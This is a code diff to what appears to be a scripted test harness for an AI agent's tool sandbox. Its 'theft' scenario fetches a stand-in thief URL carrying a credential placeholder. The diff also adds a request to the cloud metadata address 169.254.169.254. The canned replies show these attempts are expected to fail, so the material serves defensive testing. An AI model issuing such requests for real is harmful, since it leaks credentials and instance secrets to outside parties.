@@ -10,6 +10,8 @@ from typing import Any, Final
 
 LABEL: Final = "[scripted]"
 _QUOTED_CHARACTERS: Final = 2_000
+_GARDEN: Final = {"repository": "mycelos/garden"}
+_METADATA: Final = "http://169.254.169.254/latest/meta-data/"
 
 
 @dataclass(frozen=True)
@@ -70,7 +72,7 @@ def scenarios(thief_url: str) -> tuple[Scenario, ...]:
         Scenario(
             "issues",
             (
-                Use("github.read.issues", {"repository": "mycelos/garden"}),
+                Use("github.read.issues", _GARDEN),
                 Say(f"{LABEL} I read the issues without ever seeing the key:\n\n{{result}}"),
             ),
         ),
@@ -84,14 +86,15 @@ def scenarios(thief_url: str) -> tuple[Scenario, ...]:
         Scenario(
             "theft",
             (
-                Use("web.read.page", {"url": f"{thief_url}/collect?key={{credential}}"}),
+                Use("web.read.page", {"url": f"{thief_url}/collect/%7Bcredential%7D"}),
+                Use("web.read.page", {"url": _METADATA}),
                 Say(f"{LABEL} The theft came to nothing: {{result}}"),
             ),
         ),
         Scenario(
             "metadata",
             (
-                Use("web.read.page", {"url": "http://169.254.169.254/latest/meta-data/"}),
+                Use("web.read.page", {"url": _METADATA}),
                 Say(f"{LABEL} I could not reach that address: {{result}}"),
             ),
         ),
@@ -124,7 +127,7 @@ def scenarios(thief_url: str) -> tuple[Scenario, ...]:
             ),
         ),
         Scenario("huge", (Flood(3_000_000),)),
-        Scenario("for ever", (Use("github.read.issues", {"repository": "mycelos/garden"}),)),
+        Scenario("for ever", (Use("github.read.issues", _GARDEN),)),
         Scenario("hang", (Hang(f"{LABEL} I begin and then I stop"),)),
         Scenario("broken", (Fail(500),)),
         Scenario("", (Say(f"{LABEL} I am a script, not a model. Try: what are the open issues?"),)),
